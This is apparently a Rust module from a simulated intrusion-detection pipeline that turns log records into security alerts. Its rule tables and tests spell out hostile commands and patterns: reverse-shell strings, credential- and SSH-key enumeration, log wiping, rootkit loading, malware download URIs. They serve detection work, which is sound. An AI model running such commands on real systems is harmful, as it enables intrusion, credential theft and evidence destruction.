//! Symbolization: raw log records → alerts.
//!
//! §II-A: *"each log message is assigned a symbolic name indicating the
//! attacker's intention ... For example, the raw log `23:15:22
//! [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK" [7036]` ... is
//! represented by a symbol `alert_download_sensitive` and metadata."*
//!
//! The [`Symbolizer`] is a deterministic rule engine: for each record kind
//! it applies an ordered list of wildcard-pattern rules and emits zero or
//! more [`Alert`]s with sanitized messages and provenance metadata.

use std::net::Ipv4Addr;

use simnet::addr::Cidr;
use simnet::flow::{Direction, Proto, Service};
use simnet::rng::FxHashSet;
use telemetry::record::{
    ConnRecord, DbRecord, HttpRecord, LogRecord, NoticeKind, NoticeRecord, ProcessRecord, SshRecord,
};

use simnet::intern::{Sym, SymScope};
use simnet::rng::FxHashMap;

use crate::alert::{Alert, Entity};
use crate::message::MessageSpec;
use crate::pattern::{matches_any, Pattern};
use crate::sanitize::{contains_pii, SanitizeConfig};
use crate::taxonomy::AlertKind;

/// Configuration for the symbolization rules.
#[derive(Debug, Clone)]
pub struct SymbolizerConfig {
    /// Honeypot ghost accounts planted in the identity provider (§IV-B).
    pub ghost_accounts: Vec<String>,
    /// Default/advertised database accounts (§IV-B "default 'admin'
    /// password").
    pub default_db_users: Vec<String>,
    /// Known command-and-control endpoints (threat intel feed).
    pub c2_addresses: FxHashSet<Ipv4Addr>,
    /// URI patterns present in the malware database.
    pub malware_uri_patterns: Vec<Pattern>,
    /// Internal networks, for direction checks on app-layer records.
    pub internal_nets: Vec<Cidr>,
    /// Outbound byte count that counts as anomalous volume.
    pub anomalous_bytes: u64,
    /// Outbound byte count that counts as confirmed exfiltration (critical).
    pub exfil_bytes: u64,
    /// Inclusive local-hour range flagged as unusual login time.
    pub odd_hours: (u32, u32),
    /// Message sanitization settings. Alerts carry lazily rendered
    /// [`MessageSpec`]s, so this policy applies when a message is
    /// *surfaced*: render through [`Symbolizer::render_message`] (or
    /// `MessageSpec::render_with(&cfg.sanitize, scope)`) to honour it.
    /// The plain `MessageSpec::render` / `Display` path uses
    /// [`SanitizeConfig::default`].
    pub sanitize: SanitizeConfig,
}

impl Default for SymbolizerConfig {
    fn default() -> Self {
        SymbolizerConfig {
            ghost_accounts: vec!["svcbackup".to_owned(), "gridftp".to_owned()],
            default_db_users: vec!["postgres".to_owned(), "admin".to_owned()],
            c2_addresses: FxHashSet::default(),
            malware_uri_patterns: vec![
                Pattern::new("*/ldr.sh*"),
                Pattern::new("*/sys.x86_64*"),
                Pattern::new("*/kinsing*"),
                Pattern::new("*/xmrig*"),
            ],
            internal_nets: vec![
                simnet::addr::ncsa_production(),
                simnet::addr::ncsa_secondary(),
            ],
            anomalous_bytes: 512 * 1024 * 1024,
            exfil_bytes: 8 * 1024 * 1024 * 1024,
            odd_hours: (0, 4),
            sanitize: SanitizeConfig::default(),
        }
    }
}

/// Ordered process-cmdline rules: first match wins.
fn exec_rules() -> &'static [(&'static [&'static str], AlertKind)] {
    &[
        (
            &["*base64 -d*", "*base64 --decode*"],
            AlertKind::Base64DecodeExec,
        ),
        (&["insmod *", "*modprobe *"], AlertKind::KernelModuleLoaded),
        (
            &["make -C /lib/modules*", "*make*modules*", "*kbuild*"],
            AlertKind::CompileKernelModule,
        ),
        (
            &[
                "wget *.c*",
                "wget *.sh*",
                "wget *.x86_64*",
                "curl *.c*",
                "curl *.sh*",
            ],
            AlertKind::DownloadSensitive,
        ),
        (
            &[
                "find * id_rsa*",
                "find * -name *id_rsa*",
                "*grep *IdentityFile*",
            ],
            AlertKind::SshKeyEnumeration,
        ),
        (&["*known_hosts*"], AlertKind::KnownHostsEnumeration),
        (&["*bash_history*"], AlertKind::BashHistoryAccess),
        (
            &["*/etc/shadow*", "*/etc/passwd*"],
            AlertKind::PasswordFileAccess,
        ),
        (
            &["*nc -e*", "*bash -i >&*", "*sh -i >&*"],
            AlertKind::ReverseShellPattern,
        ),
        (
            &["*xmrig*", "*minerd*", "*kdevtmpfsi*"],
            AlertKind::CryptominerDeployed,
        ),
        (
            &["ssh -oStrictHostKeyChecking=no*", "*-oBatchMode=yes*"],
            AlertKind::LateralMovementAttempt,
        ),
        (
            &[
                "echo 0>/var/log/*",
                "echo 0>/var/spool/mail/*",
                "shred */var/log/*",
            ],
            AlertKind::LogWipe,
        ),
        (&["history -c*"], AlertKind::HistoryCleared),
        (&["touch -t *", "touch -r *"], AlertKind::TimestampTampering),
        (&["crontab *"], AlertKind::CronEntryAdded),
        (
            &["systemctl enable *", "chkconfig * on*"],
            AlertKind::NewServiceInstall,
        ),
        (&["gcc *", "cc *", "make *"], AlertKind::CompileSource),
    ]
}

/// The symbolization engine.
///
/// Interning makes the rule engine memoizable: a process record's verdict
/// depends only on its (interned) command line, and a custom notice's
/// alert kind only on its (interned) symbol — so both are cached by `Sym`
/// and the glob/string matching runs once per *distinct* value instead of
/// once per record. Steady state, `symbolize_into` performs zero heap
/// allocations.
///
/// Every symbolizer operates in one [`SymScope`]: incoming records' symbols
/// are resolved against it and the interned config sets are minted into it,
/// so a tenant pipeline built over a tenant scope never touches the global
/// table. The verdict memos are keyed by `(scope id, sym)` — scope ids are
/// never reused, so a `Sym` from an evicted-and-recreated tenant scope that
/// happens to collide with an old id can never resurrect a stale verdict
/// (see [`Symbolizer::set_scope`]).
#[derive(Debug, Clone)]
pub struct Symbolizer {
    cfg: SymbolizerConfig,
    scope: SymScope,
    alerts_emitted: u64,
    /// Interned ghost-account set (from `cfg.ghost_accounts`).
    ghost_users: simnet::rng::FxHashSet<Sym>,
    /// Interned default-DB-account set (from `cfg.default_db_users`).
    default_db_users: simnet::rng::FxHashSet<Sym>,
    /// Memoized first-match verdict of [`exec_rules`] per command line,
    /// keyed by the minting scope.
    exec_memo: FxHashMap<(u32, Sym), Option<AlertKind>>,
    /// Memoized [`AlertKind::from_symbol`] per custom notice symbol,
    /// keyed by the minting scope.
    notice_memo: FxHashMap<(u32, Sym), Option<AlertKind>>,
}

impl Symbolizer {
    /// A symbolizer over the global scope. A tenant pipeline re-points it
    /// with [`Symbolizer::set_scope`], so its records, config sets and
    /// alerts all live in the tenant's symbol universe. The config sets
    /// are interned into the global table here first, and those entries
    /// stay after `set_scope`.
    pub fn new(cfg: SymbolizerConfig) -> Self {
        let scope = SymScope::global();
        let ghost_users = cfg.ghost_accounts.iter().map(|s| scope.sym(s)).collect();
        let default_db_users = cfg.default_db_users.iter().map(|s| scope.sym(s)).collect();
        Symbolizer {
            cfg,
            scope,
            alerts_emitted: 0,
            ghost_users,
            default_db_users,
            exec_memo: FxHashMap::default(),
            notice_memo: FxHashMap::default(),
        }
    }

    pub fn with_defaults() -> Self {
        Self::new(SymbolizerConfig::default())
    }

    pub fn config(&self) -> &SymbolizerConfig {
        &self.cfg
    }

    /// The scope this symbolizer resolves records against.
    pub fn scope(&self) -> &SymScope {
        &self.scope
    }

    /// Re-point the symbolizer at a different scope (e.g. a tenant slot
    /// that was evicted and recreated), re-interning the config sets
    /// there. Memoized verdicts for the old scope stay in the map but are
    /// unreachable by construction: memo keys carry the scope id and
    /// scope ids are never reused, so a recycled 32-bit `Sym` id from the
    /// new scope cannot alias an old verdict.
    pub fn set_scope(&mut self, scope: SymScope) {
        self.ghost_users = self
            .cfg
            .ghost_accounts
            .iter()
            .map(|s| scope.sym(s))
            .collect();
        self.default_db_users = self
            .cfg
            .default_db_users
            .iter()
            .map(|s| scope.sym(s))
            .collect();
        self.scope = scope;
    }

    pub fn alerts_emitted(&self) -> u64 {
        self.alerts_emitted
    }

    /// Render an alert message under this symbolizer's sanitize policy
    /// (`cfg.sanitize`) — the §II-A scrubbing the eager-string pipeline
    /// applied at emission time now happens here, at surfacing time.
    pub fn render_message(&self, msg: &MessageSpec) -> String {
        msg.render_with(&self.cfg.sanitize, &self.scope)
    }

    fn is_internal(&self, addr: Ipv4Addr) -> bool {
        self.cfg.internal_nets.iter().any(|n| n.contains(addr))
    }

    /// Symbolize one record, appending alerts to `out`. Returns the number
    /// of alerts produced.
    pub fn symbolize_into(&mut self, r: &LogRecord, out: &mut Vec<Alert>) -> usize {
        let before = out.len();
        match r {
            LogRecord::Conn(c) => self.on_conn(c, out),
            LogRecord::Http(h) => self.on_http(h, out),
            LogRecord::Ssh(s) => self.on_ssh(s, out),
            LogRecord::Notice(n) => self.on_notice(n, out),
            LogRecord::Process(p) => self.on_process(p, out),
            LogRecord::File(f) => self.on_file(f, out),
            LogRecord::Db(d) => self.on_db(d, out),
            LogRecord::Auth(_) => {
                // SSH auth alerts are derived from the Zeek ssh stream; the
                // host auth log is corroboration, not a second alert source.
            }
            LogRecord::Audit(a) => self.on_audit(a, out),
        }
        let produced = out.len() - before;
        self.alerts_emitted += produced as u64;
        produced
    }

    /// Convenience wrapper returning a fresh vector.
    pub fn symbolize(&mut self, r: &LogRecord) -> Vec<Alert> {
        let mut out = Vec::new();
        self.symbolize_into(r, &mut out);
        out
    }

    fn on_conn(&self, c: &ConnRecord, out: &mut Vec<Alert>) {
        let entity = Entity::Address(c.orig_h);
        if c.conn_state.probe_like() {
            let kind = match c.direction {
                Direction::Outbound => AlertKind::OutboundScanning,
                _ if c.resp_p == Service::Postgres.default_port() => AlertKind::RepeatedProbeDb,
                _ => AlertKind::PortScan,
            };
            out.push(
                Alert::new(c.ts, kind, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::Probe {
                        proto: c.proto,
                        resp_h: c.resp_h,
                        resp_p: c.resp_p,
                        state: c.conn_state,
                    }),
            );
            return;
        }
        if !c.conn_state.established() {
            return;
        }
        if self.cfg.c2_addresses.contains(&c.resp_h) {
            out.push(
                Alert::new(c.ts, AlertKind::C2Communication, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::C2Beacon {
                        resp_h: c.resp_h,
                        resp_p: c.resp_p,
                    }),
            );
        }
        if c.service == Service::Irc {
            out.push(
                Alert::new(c.ts, AlertKind::IrcConnection, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::Static("irc connection")),
            );
        }
        if matches!(c.resp_p, 9001 | 9030) {
            out.push(
                Alert::new(c.ts, AlertKind::TorConnection, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::Static("tor relay connection")),
            );
        }
        if c.proto == Proto::Icmp && c.orig_bytes > 64 * 1024 {
            out.push(
                Alert::new(c.ts, AlertKind::IcmpTunnelSuspected, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::IcmpVolume {
                        bytes: c.orig_bytes,
                    }),
            );
        }
        if c.service == Service::Dns && c.orig_bytes > 1024 * 1024 {
            out.push(
                Alert::new(c.ts, AlertKind::DnsTunnelSuspected, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::DnsVolume {
                        bytes: c.orig_bytes,
                    }),
            );
        }
        if c.direction == Direction::Outbound {
            if c.orig_bytes >= self.cfg.exfil_bytes {
                out.push(
                    Alert::new(c.ts, AlertKind::DataExfiltration, entity)
                        .with_src(c.orig_h)
                        .with_dst(c.resp_h)
                        .with_message(MessageSpec::OutboundVolume {
                            bytes: c.orig_bytes,
                        }),
                );
            } else if c.orig_bytes >= self.cfg.anomalous_bytes {
                out.push(
                    Alert::new(c.ts, AlertKind::AnomalousDataVolume, entity)
                        .with_src(c.orig_h)
                        .with_dst(c.resp_h)
                        .with_message(MessageSpec::OutboundVolume {
                            bytes: c.orig_bytes,
                        }),
                );
            }
        }
    }

    fn on_http(&self, h: &HttpRecord, out: &mut Vec<Alert>) {
        let entity = Entity::Address(h.orig_h);
        let line = MessageSpec::HttpLine {
            method: h.method,
            host: h.host,
            uri: h.uri,
            status: h.status,
        };
        let uri = self.scope.resolve(h.uri);
        if matches_any(&self.cfg.malware_uri_patterns, uri) {
            out.push(
                Alert::new(h.ts, AlertKind::KnownMalwareDownload, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
            return;
        }
        let source_ext = [".c", ".sh", ".pl", ".py"].iter().any(|e| uri.ends_with(e));
        let binary_mime = matches!(
            self.scope.resolve(h.mime),
            "application/x-executable" | "application/x-elf"
        );
        if source_ext && h.status == 200 {
            // Source fetched over plaintext HTTP: step 1 of the S1 pattern.
            out.push(
                Alert::new(h.ts, AlertKind::DownloadSensitive, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        } else if binary_mime && h.status == 200 {
            out.push(
                Alert::new(h.ts, AlertKind::DownloadBinaryUnknown, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
        if crate::pattern::glob_match("*' OR *", uri)
            || crate::pattern::glob_match("*UNION SELECT*", uri)
        {
            out.push(
                Alert::new(h.ts, AlertKind::SqlInjectionProbe, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
        if crate::pattern::glob_match("*.action*", uri) {
            // Apache Struts portal scan (Insight 3's example).
            out.push(
                Alert::new(h.ts, AlertKind::VulnScan, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
        if self.is_internal(h.orig_h) && !self.is_internal(h.resp_h) && contains_pii(uri) {
            // Critical: personally identifiable information leaving in an
            // outgoing HTTP request (Insight 4's example).
            out.push(
                Alert::new(h.ts, AlertKind::PiiInOutboundHttp, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
    }

    fn on_ssh(&self, s: &SshRecord, out: &mut Vec<Alert>) {
        let entity = Entity::User(s.user);
        if !s.success {
            out.push(
                Alert::new(s.ts, AlertKind::LoginFailed, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::SshFailed { orig_h: s.orig_h }),
            );
            return;
        }
        let mut flagged = false;
        if self.ghost_users.contains(&s.user) {
            flagged = true;
            out.push(
                Alert::new(s.ts, AlertKind::GhostAccountLogin, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::GhostLogin { user: s.user }),
            );
        }
        if s.direction == Direction::Internal {
            flagged = true;
            out.push(
                Alert::new(s.ts, AlertKind::InternalPivotLogin, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::InternalSsh {
                        orig_h: s.orig_h,
                        resp_h: s.resp_h,
                    }),
            );
        }
        let hour = s.ts.time_of_day().0;
        if hour >= self.cfg.odd_hours.0 && hour <= self.cfg.odd_hours.1 {
            flagged = true;
            out.push(
                Alert::new(s.ts, AlertKind::LoginUnusualHour, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::LoginAtHour { hour }),
            );
        }
        if !flagged {
            out.push(
                Alert::new(s.ts, AlertKind::LoginSuccess, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::Static("ssh login")),
            );
        }
    }

    fn on_notice(&mut self, n: &NoticeRecord, out: &mut Vec<Alert>) {
        let entity = Entity::Address(n.src);
        let kind = match &n.note {
            NoticeKind::AddressScan => Some(AlertKind::AddressSweep),
            NoticeKind::PortScan => Some(AlertKind::PortScan),
            NoticeKind::PasswordGuessing => Some(AlertKind::BruteForcePassword),
            NoticeKind::ExecutableFromRawIp => Some(AlertKind::DownloadSensitive),
            NoticeKind::Custom(sym) => {
                let scope = &self.scope;
                *self
                    .notice_memo
                    .entry((scope.scope_id(), *sym))
                    .or_insert_with(|| AlertKind::from_symbol(scope.resolve(*sym)))
            }
        };
        if let Some(kind) = kind {
            let mut a = Alert::new(n.ts, kind, entity)
                .with_src(n.src)
                .with_message(MessageSpec::Text(n.msg));
            if let Some(d) = n.dst {
                a = a.with_dst(d);
            }
            out.push(a);
        }
    }

    fn on_process(&mut self, p: &ProcessRecord, out: &mut Vec<Alert>) {
        // The verdict depends only on the command line, so the ordered
        // glob scan runs once per distinct `cmdline` symbol per scope.
        let scope = &self.scope;
        let kind = *self
            .exec_memo
            .entry((scope.scope_id(), p.cmdline))
            .or_insert_with(|| {
                let cmdline = scope.resolve(p.cmdline);
                exec_rules()
                    .iter()
                    .find(|(patterns, _)| {
                        patterns
                            .iter()
                            .any(|pat| crate::pattern::glob_match(pat, cmdline))
                    })
                    .map(|(_, kind)| *kind)
            });
        if let Some(kind) = kind {
            out.push(
                Alert::new(p.ts, kind, Entity::User(p.user))
                    .with_host(p.host)
                    .with_message(MessageSpec::Exec {
                        hostname: p.hostname,
                        cmdline: p.cmdline,
                    }),
            );
        }
    }

    fn on_file(&self, f: &telemetry::record::FileRecord, out: &mut Vec<Alert>) {
        use simnet::action::FileOp;
        let entity = Entity::User(f.user);
        let push = |out: &mut Vec<Alert>, kind: AlertKind, msg: MessageSpec| {
            out.push(
                Alert::new(f.ts, kind, entity)
                    .with_host(f.host)
                    .with_message(msg),
            );
        };
        let verb = |verb, path| MessageSpec::FileOp { verb, path };
        let path = self.scope.resolve(f.path);
        let deleting = matches!(f.op, FileOp::Delete | FileOp::Truncate);
        if deleting
            && (crate::pattern::glob_match("/var/log/*", path)
                || crate::pattern::glob_match("/var/spool/mail/*", path))
        {
            push(out, AlertKind::LogWipe, verb("wipe", f.path));
        } else if deleting && path.ends_with(".bash_history") {
            push(out, AlertKind::HistoryCleared, verb("clear", f.path));
        } else if f.op == FileOp::Create && crate::pattern::glob_match("/tmp/*", path) {
            push(
                out,
                AlertKind::FileDropTmp,
                MessageSpec::FileDrop {
                    path: f.path,
                    process: f.process,
                },
            );
        } else if matches!(f.op, FileOp::Create | FileOp::Modify)
            && path.ends_with(".ssh/authorized_keys")
        {
            push(
                out,
                AlertKind::SshAuthorizedKeyAdded,
                verb("modify", f.path),
            );
        } else if f.op == FileOp::Create
            && (crate::pattern::glob_match("*RANSOM*", path)
                || crate::pattern::glob_match("*ransom*", path))
        {
            push(out, AlertKind::RansomNoteDropped, verb("note", f.path));
        } else if f.op == FileOp::Create && path.ends_with(".encrypted") {
            push(out, AlertKind::MassFileEncryption, verb("encrypt", f.path));
        } else if crate::pattern::glob_match("/etc/cron*", path) {
            push(out, AlertKind::CronEntryAdded, verb("cron", f.path));
        }
    }

    fn on_db(&self, d: &DbRecord, out: &mut Vec<Alert>) {
        use simnet::action::DbCommandKind;
        let entity = Entity::User(d.user);
        let mut push = |kind: AlertKind, msg: MessageSpec| {
            let mut a = Alert::new(d.ts, kind, entity)
                .with_src(d.orig_h)
                .with_dst(d.resp_h)
                .with_message(msg);
            if let Some(h) = d.host {
                a = a.with_host(h);
            }
            out.push(a);
        };
        match &d.command {
            DbCommandKind::Auth { success } => {
                if *success && self.default_db_users.contains(&d.user) {
                    push(
                        AlertKind::DefaultCredentialUse,
                        MessageSpec::DbDefaultCred { user: d.user },
                    );
                } else if !success {
                    push(
                        AlertKind::LoginFailed,
                        MessageSpec::DbAuthFailed { user: d.user },
                    );
                }
            }
            DbCommandKind::ShowVersion => {
                push(AlertKind::DbVersionRecon, MessageSpec::Text(d.statement));
            }
            DbCommandKind::LargeObjectWrite { hex_prefix, bytes } => {
                if hex_prefix.starts_with("7F454C46") {
                    push(
                        AlertKind::ElfMagicInDbBlob,
                        MessageSpec::ElfBlob {
                            bytes: *bytes,
                            hex_prefix: self.scope.sym(hex_prefix),
                        },
                    );
                }
            }
            DbCommandKind::LoExport { path } => {
                push(
                    AlertKind::LoExportExecution,
                    MessageSpec::LoExport {
                        path: self.scope.sym(path),
                    },
                );
            }
            DbCommandKind::CopyFromProgram { program } => {
                push(
                    AlertKind::RemoteCodeExecAttempt,
                    MessageSpec::CopyFromProgram {
                        program: self.scope.sym(program),
                    },
                );
            }
            DbCommandKind::Query => {
                let statement = self.scope.resolve(d.statement);
                if crate::pattern::glob_match("*' OR *", statement)
                    || crate::pattern::glob_match("*UNION SELECT*", statement)
                {
                    push(AlertKind::SqlInjectionProbe, MessageSpec::Text(d.statement));
                }
            }
        }
    }

    fn on_audit(&self, a: &telemetry::record::AuditRecord, out: &mut Vec<Alert>) {
        let syscall = self.scope.resolve(a.syscall);
        let args = self.scope.resolve(a.args);
        if syscall == "setuid"
            && args.contains('0')
            && a.exit_code == 0
            && self.scope.resolve(a.user) != "root"
        {
            out.push(
                Alert::new(a.ts, AlertKind::PrivilegeEscalation, Entity::User(a.user))
                    .with_host(a.host)
                    .with_message(MessageSpec::Setuid {
                        hostname: a.hostname,
                        user: a.user,
                    }),
            );
        } else if syscall == "ptrace" && args.contains("osquery") {
            out.push(
                Alert::new(a.ts, AlertKind::MonitorTampering, Entity::User(a.user))
                    .with_host(a.host)
                    .with_message(MessageSpec::MonitorPtrace {
                        hostname: a.hostname,
                    }),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::{ConnState, FlowId};
    use simnet::time::{SimDuration, SimTime};
    use simnet::topology::HostId;

    fn sym() -> Symbolizer {
        Symbolizer::with_defaults()
    }

    /// A record field interned in the global scope, the scope of
    /// [`sym`]'s symbolizer.
    fn g(text: &str) -> Sym {
        SymScope::global().sym(text)
    }

    fn conn(
        state: ConnState,
        dir: Direction,
        src: &str,
        dst: &str,
        dport: u16,
        orig_bytes: u64,
    ) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(10),
            uid: FlowId(1),
            orig_h: src.parse().unwrap(),
            orig_p: 40_000,
            resp_h: dst.parse().unwrap(),
            resp_p: dport,
            proto: Proto::Tcp,
            service: Service::from_port(dport),
            duration: SimDuration::from_secs(1),
            orig_bytes,
            resp_bytes: 100,
            conn_state: state,
            direction: dir,
        })
    }

    #[test]
    fn probe_becomes_port_scan() {
        let alerts = sym().symbolize(&conn(
            ConnState::S0,
            Direction::Inbound,
            "103.102.1.1",
            "141.142.2.1",
            22,
            0,
        ));
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].kind, AlertKind::PortScan);
    }

    #[test]
    fn postgres_probe_becomes_db_probe() {
        let alerts = sym().symbolize(&conn(
            ConnState::S0,
            Direction::Inbound,
            "111.200.1.1",
            "141.142.77.5",
            5432,
            0,
        ));
        assert_eq!(alerts[0].kind, AlertKind::RepeatedProbeDb);
    }

    #[test]
    fn outbound_probe_is_outbound_scanning() {
        let alerts = sym().symbolize(&conn(
            ConnState::S0,
            Direction::Outbound,
            "141.142.2.1",
            "8.8.8.8",
            22,
            0,
        ));
        assert_eq!(alerts[0].kind, AlertKind::OutboundScanning);
    }

    #[test]
    fn c2_connection_detected() {
        let mut cfg = SymbolizerConfig::default();
        cfg.c2_addresses.insert("194.145.9.9".parse().unwrap());
        let mut s = Symbolizer::new(cfg);
        let alerts = s.symbolize(&conn(
            ConnState::SF,
            Direction::Outbound,
            "141.142.77.5",
            "194.145.9.9",
            443,
            100,
        ));
        assert!(alerts.iter().any(|a| a.kind == AlertKind::C2Communication));
    }

    #[test]
    fn exfil_thresholds() {
        let big = 10 * 1024 * 1024 * 1024;
        let alerts = sym().symbolize(&conn(
            ConnState::SF,
            Direction::Outbound,
            "141.142.2.1",
            "5.5.5.5",
            443,
            big,
        ));
        assert!(alerts.iter().any(|a| a.kind == AlertKind::DataExfiltration));
        let mid = 600 * 1024 * 1024;
        let alerts = sym().symbolize(&conn(
            ConnState::SF,
            Direction::Outbound,
            "141.142.2.1",
            "5.5.5.5",
            443,
            mid,
        ));
        assert!(alerts
            .iter()
            .any(|a| a.kind == AlertKind::AnomalousDataVolume));
    }

    #[test]
    fn http_source_download_is_sensitive() {
        let r = LogRecord::Http(HttpRecord {
            ts: SimTime::from_secs(5),
            uid: FlowId(2),
            orig_h: "141.142.2.5".parse().unwrap(),
            resp_h: "64.215.4.5".parse().unwrap(),
            method: g("GET"),
            host: g("64.215.4.5"),
            uri: g("/abs.c"),
            status: 200,
            mime: g("text/x-c"),
            user_agent: g("Wget/1.21"),
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
        // Message sanitized (at render time): masked IP.
        assert!(alerts[0]
            .message
            .render(&SymScope::global())
            .contains("64.215.xxx.yyy"));
    }

    #[test]
    fn known_malware_uri_short_circuits() {
        let r = LogRecord::Http(HttpRecord {
            ts: SimTime::from_secs(5),
            uid: FlowId(2),
            orig_h: "141.142.77.5".parse().unwrap(),
            resp_h: "194.145.4.5".parse().unwrap(),
            method: g("GET"),
            host: g("194.145.4.5"),
            uri: g("/ldr.sh?e7945e_postgres:postgres"),
            status: 200,
            mime: g("text/x-shellscript"),
            user_agent: g("curl/8"),
        });
        let alerts = sym().symbolize(&r);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].kind, AlertKind::KnownMalwareDownload);
    }

    #[test]
    fn pii_in_outbound_http_is_critical() {
        let r = LogRecord::Http(HttpRecord {
            ts: SimTime::from_secs(5),
            uid: FlowId(2),
            orig_h: "141.142.2.5".parse().unwrap(),
            resp_h: "5.5.5.5".parse().unwrap(),
            method: g("POST"),
            host: g("5.5.5.5"),
            uri: g("/upload?ssn=123456789&mail=a@b.com"),
            status: 200,
            mime: g("text/html"),
            user_agent: g("curl/8"),
        });
        let alerts = sym().symbolize(&r);
        assert!(alerts
            .iter()
            .any(|a| a.kind == AlertKind::PiiInOutboundHttp && a.is_critical()));
    }

    #[test]
    fn ssh_alerts() {
        let rec = |success, dir, hour| {
            LogRecord::Ssh(SshRecord {
                ts: SimTime::from_datetime(2024, 10, 30, hour, 0, 0),
                uid: FlowId(3),
                orig_h: "132.1.2.3".parse().unwrap(),
                resp_h: "141.142.1.1".parse().unwrap(),
                user: g("alice"),
                method: simnet::action::AuthMethod::Password,
                success,
                client_banner: g("OpenSSH"),
                direction: dir,
            })
        };
        assert_eq!(
            sym().symbolize(&rec(false, Direction::Inbound, 12))[0].kind,
            AlertKind::LoginFailed
        );
        assert_eq!(
            sym().symbolize(&rec(true, Direction::Inbound, 12))[0].kind,
            AlertKind::LoginSuccess
        );
        let odd = sym().symbolize(&rec(true, Direction::Inbound, 3));
        assert!(odd.iter().any(|a| a.kind == AlertKind::LoginUnusualHour));
        let pivot = sym().symbolize(&rec(true, Direction::Internal, 12));
        assert!(pivot
            .iter()
            .any(|a| a.kind == AlertKind::InternalPivotLogin));
    }

    #[test]
    fn ghost_account_flagged() {
        let r = LogRecord::Ssh(SshRecord {
            ts: SimTime::from_datetime(2024, 10, 30, 12, 0, 0),
            uid: FlowId(3),
            orig_h: "132.1.2.3".parse().unwrap(),
            resp_h: "141.142.1.1".parse().unwrap(),
            user: g("svcbackup"),
            method: simnet::action::AuthMethod::PublicKey,
            success: true,
            client_banner: g("OpenSSH"),
            direction: Direction::Inbound,
        });
        let alerts = sym().symbolize(&r);
        assert!(alerts
            .iter()
            .any(|a| a.kind == AlertKind::GhostAccountLogin));
    }

    #[test]
    fn process_rules_fire_in_order() {
        let proc = |cmd: &str| {
            LogRecord::Process(ProcessRecord {
                ts: SimTime::from_secs(1),
                host: HostId(0),
                hostname: g("cn01"),
                user: g("eve"),
                pid: 1,
                ppid: 0,
                exe: g("/bin/sh"),
                cmdline: g(cmd),
            })
        };
        let k = |cmd: &str| sym().symbolize(&proc(cmd)).first().map(|a| a.kind);
        assert_eq!(
            k("wget http://64.215.4.5/abs.c"),
            Some(AlertKind::DownloadSensitive)
        );
        assert_eq!(
            k("make -C /lib/modules/5.4/build modules"),
            Some(AlertKind::CompileKernelModule)
        );
        assert_eq!(k("make all"), Some(AlertKind::CompileSource));
        assert_eq!(k("insmod rootkit.ko"), Some(AlertKind::KernelModuleLoaded));
        assert_eq!(
            k("find ~/ /root /home -maxdepth 2 -name id_rsa*"),
            Some(AlertKind::SshKeyEnumeration)
        );
        assert_eq!(
            k("cat /home/x/.ssh/known_hosts"),
            Some(AlertKind::KnownHostsEnumeration)
        );
        assert_eq!(
            k("ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@141.142.2.9"),
            Some(AlertKind::LateralMovementAttempt)
        );
        assert_eq!(k("echo 0>/var/log/wtmp"), Some(AlertKind::LogWipe));
        assert_eq!(k("ls -la"), None);
    }

    #[test]
    fn db_command_alerts() {
        use simnet::action::DbCommandKind;
        let db = |command: DbCommandKind, stmt: &str, user: &str| {
            LogRecord::Db(DbRecord {
                ts: SimTime::from_secs(1),
                uid: FlowId(4),
                orig_h: "111.200.1.1".parse().unwrap(),
                resp_h: "141.142.77.5".parse().unwrap(),
                host: Some(HostId(9)),
                user: g(user),
                command,
                statement: g(stmt),
            })
        };
        let mut s = sym();
        let a = s.symbolize(&db(
            DbCommandKind::ShowVersion,
            "SHOW server_version_num",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::DbVersionRecon);
        let a = s.symbolize(&db(
            DbCommandKind::LargeObjectWrite {
                hex_prefix: "7F454C46".to_owned(),
                bytes: 50_000,
            },
            "lo_from_bytea",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::ElfMagicInDbBlob);
        let a = s.symbolize(&db(
            DbCommandKind::LoExport {
                path: "/tmp/kp".to_owned(),
            },
            "select lo_export(1, '/tmp/kp')",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::LoExportExecution);
        let a = s.symbolize(&db(
            DbCommandKind::Auth { success: true },
            "auth",
            "postgres",
        ));
        assert_eq!(a[0].kind, AlertKind::DefaultCredentialUse);
    }

    #[test]
    fn audit_priv_escalation() {
        let r = LogRecord::Audit(telemetry::record::AuditRecord {
            ts: SimTime::from_secs(1),
            host: HostId(0),
            hostname: g("cn01"),
            user: g("eve"),
            syscall: g("setuid"),
            args: g("uid=0"),
